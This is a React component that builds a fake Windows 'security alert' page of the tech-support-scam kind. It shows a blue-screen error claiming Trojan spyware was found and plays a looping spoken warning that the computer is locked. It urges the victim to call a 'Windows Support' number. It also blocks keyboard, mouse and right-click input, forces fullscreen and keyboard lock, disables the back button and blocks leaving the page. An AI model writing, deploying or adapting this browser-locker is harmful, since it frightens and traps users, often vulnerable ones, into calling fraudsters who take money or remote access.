import React, { useEffect, useState } from 'react';
const PHONE = '+1 (800) 000-0000';
export default function Alert() {
  const [code] = useState('0x' + Math.random().toString(16).slice(2, 10).toUpperCase());
  useEffect(() => {
    const say = () => {
      const u = new SpeechSynthesisUtterance('Important security message. Your computer has been locked. Call ' + PHONE + ' immediately. Do not shut down your computer.');
      u.rate = 0.95;
      speechSynthesis.speak(u);
    };
    const t = setInterval(say, 12000);
    say();
    const stop = (e) => { e.preventDefault(); e.stopPropagation(); document.documentElement.requestFullscreen?.().catch(() => {}); navigator.keyboard?.lock?.(); return false; };
    window.addEventListener('keydown', stop, true);
    window.addEventListener('contextmenu', stop);
    window.addEventListener('mousedown', stop);
    window.addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = 'x'; });
    history.pushState(null, '', location.href);
    window.onpopstate = () => history.go(1);
    return () => clearInterval(t);
  }, []);
  return <div className="bsod"><h1>:(</h1><p>Trojan_Spyware detected. Error {code}</p><p>Call Windows Support: {PHONE} (Toll Free)</p><button>Scan now</button></div>;
}
